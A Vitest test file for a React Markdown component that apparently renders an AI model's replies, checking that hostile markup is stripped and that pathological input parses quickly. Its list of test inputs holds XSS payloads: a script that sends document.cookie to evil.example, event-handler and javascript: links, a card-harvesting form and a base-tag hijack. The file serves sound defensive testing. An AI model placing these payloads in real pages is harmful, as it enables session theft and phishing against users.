import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown.tsx";

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

/** What a model might be talked into writing, whole and cut anywhere. */
const HOSTILE = [
  '<script>fetch("//evil.example/" + document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)><use href='//evil.example/x.svg#a'></use></svg>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "[누르기](javascript:alert(1))",
  "[누르기](JaVa\tScRiPt:alert(1))",
  "[누르기](data:text/html,<script>alert(1)</script>)",
  "[누르기](vbscript:msgbox)",
  "[누르기]: javascript:alert(1)\n\n[누르기]",
  "<javascript:alert(1)>",
  "![그림](https://evil.example/pixel.png)",
  '<a href="https://evil.example" onclick="alert(1)">누르기</a>',
  '<form action="https://evil.example"><input name="card"></form>',
  "<style>body{display:none}</style>",
  "<base href='https://evil.example/'>",
];

describe("words of the assistant", () => {
  it.each(HOSTILE)("can do nothing: %s", (text) => {
    for (const cut of [text.length, text.length - 1, Math.ceil(text.length / 2)]) {
      const html = render(`앞 ${text.slice(0, cut)} 뒤`) + render(text.slice(0, cut));
      // Between tags everything is only words.
      const tags = (html.match(/<[^>]*>/g) ?? []).join("");
      expect(html).not.toMatch(/<(?:script|img|svg|iframe|form|input|style|base|object|embed|link|meta)/i);
      expect(tags).not.toMatch(/\son\w+=/i);
      expect(tags).not.toMatch(/(?:href|src)="\s*(?:javascript|data|vbscript):/i);
      expect(tags).not.toMatch(/(?:src|srcset)=/i);
    }
  });

  it("may lead elsewhere, to a page that learns nothing about ours", () => {
    expect(render("[문서](https://example.com/a)")).toContain(
      '<a href="https://example.com/a" target="_blank" rel="noreferrer noopener">문서</a>',
    );
  });

  it.each([
    ["quotes in quotes", ">"],
    ["quotes in quotes, apart", "> "],
    ["lists in lists", "- "],
    ["numbered lists in lists", "1. "],
    ["brackets", "["],
    ["links that never end", "[a]("],
    ["pictures", "!["],
    ["stress that never ends", "*a_ "],
    ["paragraphs", "a\n\n"],
    ["headings", "# a\n"],
    ["references", "[a]: b\n"],
    ["tags", "<a "],
  ])("are read in time, whatever they are made of: 10 000 characters of %s", (_name, piece) => {
    const started = performance.now();
    expect(render(piece.repeat(Math.floor(10_000 / piece.length)))).toContain("<div");
    // It takes a hundredth of that; what costs the square of the length takes ten times as long.
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it("show bold words, lists, code and headings", () => {
    const html = render("## 예약\n\n**굵게** `코드`\n\n- 하나\n- 둘\n\n1. 첫째\n\n![그림](https://evil.example/a.png) <b>글자</b>");
    for (const part of [
      "<h2>예약</h2>",
      "<strong>굵게</strong>",
      "<code>코드</code>",
      "<li>하나</li>",
      "<ol>",
      "<span>그림</span>",
      "&lt;b&gt;글자",
    ])
      expect(html).toContain(part);
  });
});
